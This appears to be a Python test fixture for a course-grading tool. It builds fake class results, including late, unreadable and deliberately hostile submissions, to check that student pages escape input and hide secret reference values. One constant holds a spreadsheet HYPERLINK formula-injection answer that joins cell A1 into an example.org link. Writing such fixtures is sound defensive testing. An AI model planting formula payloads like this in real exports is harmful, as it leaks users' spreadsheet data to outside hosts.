"""Made-up results of a class, as grading writes them: right, wrong, late, unmarked, unreadable, hostile."""

from __future__ import annotations

from pathlib import Path

from hostile import HOSTILE

from labkit.assignments.companion import Companion, PublicQuestion
from labkit.assignments.header import Title
from labkit.assignments.results import CheckResult, Late, QuestionResult, Result

#: What must never be on a page for a student: a reference value, a line of a hidden check, what only a lecturer sees.
REFERENCE = "14085.25"
HIDDEN_LINE = "assert abs(residents - reference.residents) < 5"
SECRETS = (REFERENCE, HIDDEN_LINE, "reference.residents", "AssertionError")

#: What a release tells about the assignment.
COMPANION = Companion(
    assignment="week1",
    title=Title(nl="De stad als lab", en="The city as a lab"),
    city="leiden",
    variants="district",
    questions=(PublicQuestion(id="q1", title=Title(nl="Hoeveel mensen wonen er?", en="How many people live there?")),),
)

#: Answers that a spreadsheet would run as a formula, or a browser as a script.
FORMULA = '=HYPERLINK("https://example.org/"&A1;"Click")\n- a second line'
ANSWER_CODE = "residents = 12_000\n\n# about the size of a village\nshare = residents / 124_000"
ANSWER_TEXT = "More people live in **Stevenshof** than I thought.\n\n- but the figures are rounded, and from 2025."


def check(name: str, points: float, worth: float, kind: str = "", message: str = "", *, hidden: bool = False):
    """Return how a check ended; what it says to the lecturer alone holds everything that is secret."""
    return CheckResult(
        id=name,
        hidden=hidden,
        points=points,
        max_points=worth,
        passed=not kind,
        kind=kind,
        message=message,
        detail=f"AssertionError: {HIDDEN_LINE} where {REFERENCE}" if hidden and kind else "",
    )


def questions(hidden_kind: str = "", answer: str = ANSWER_TEXT, manual: float | None = None) -> list[QuestionResult]:
    """Return how four questions were answered: code with a hidden check, code, a text, and one not answered."""
    hidden_points = 0.0 if hidden_kind else 2.0
    return [
        QuestionResult(
            id="q1",
            title="How many people live in your district?",
            points=1 + hidden_points,
            max_points=3,
            matched_by="id",
            checks=[
                check("q1.1", 1, 1),
                # Grading should say nothing here; a page must not rely on it.
                check("q1.2", hidden_points, 2, hidden_kind, f"expected {REFERENCE}", hidden=True),
            ],
            answer=ANSWER_CODE,
            shown={"residents": "12000", "share": "0.0967741935483871"},
            values={"residents": 12000},
        ),
        QuestionResult(
            id="q2",
            title="Which share is younger than 25?",
            points=0,
            max_points=2,
            matched_by="heading",
            notes=["The cell with this answer stood twice in your notebook; the last one was used."],
            checks=[check("q2.1", 0, 2, "unit", "A share is a number between 0 and 100; yours is 0.31.")],
            answer="young = 0.31",
            shown={"young": "0.31"},
        ),
        QuestionResult(
            id="q3",
            title="What does this figure say, and what not?",
            kind="text",
            points=manual or 0,
            max_points=4,
            manual_points=manual,
            manual_max=4,
            matched_by="cell id",
            answer=answer,
        ),
        QuestionResult(
            id="q4",
            title="Draw a map",
            points=0,
            max_points=1,
            matched_by="missing",
            checks=[check("q4.1", 0, 1, "unanswered", "There is no answer here yet.")],
        ),
    ]


def result(student: str, **more) -> Result:
    """Return the result of a student."""
    kinds = {
        "assignment": "week1",
        "student": student,
        "language": "en",
        "area": "WK054606",
        "file": f"{student}/week1.ipynb",
        "original": f"12345-67890 - Student {student} - Nov 27, 2026 411 PM/week1.ipynb",
        "digest": "0" * 64,
        "received": "2026-11-27T16:11:00+01:00",
        "questions": questions(),
        "key": "made-up",
    }
    return Result(**{**kinds, **more})


def class_of(count: int = 8) -> list[Result]:
    """Return the results of a class; its last three are odd: late and hostile, unreadable, nothing handed in."""
    kinds = ["", "value", "type", "length"]
    plain = [
        result(f"s{1000 + n}", language="nl" if n % 2 else "en", questions=questions(kinds[n % 4], manual=None))
        for n in range(count - 3)
    ]
    hostile = result(
        "s2001",
        late=Late(hours=5.5, minus=10, text="5.5 hours late: 10% of the points less by the policy."),
        questions=questions("value", FORMULA + HOSTILE),
        notes=[HOSTILE],
    )
    hostile.questions[0].title = HOSTILE
    hostile.questions[0].shown = {"residents": HOSTILE}
    unreadable = result("s2002", status="unreadable", questions=[], notes=["week1.ipynb is not a notebook."])
    absent = result("s2003", status="no hand-in", questions=[], file="", original="", received="")
    return [*plain, hostile, unreadable, absent]


def save(folder: Path, results: list[Result] | None = None) -> Path:
    """Write results as grading does; return the folder."""
    place = folder / "results"
    place.mkdir(parents=True, exist_ok=True)
    for one in class_of() if results is None else results:
        (place / f"{one.student}.json").write_text(one.model_dump_json(indent=1), encoding="utf-8")
    return folder


def roster(folder: Path, results: list[Result] | None = None, name: str = "Jan de Vries") -> Path:
    """Write a roster with the ids of both platforms; return the file."""
    students = [one.student for one in (class_of() if results is None else results)]
    lines = ["student,name,OrgDefinedId,Username,ID,SIS User ID,SIS Login ID,Section"]
    lines += [f'{one},"{name} {one}",#{one[1:]},#u{one},{90000 + n},{one},u{one},A' for n, one in enumerate(students)]
    path = folder / "roster.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
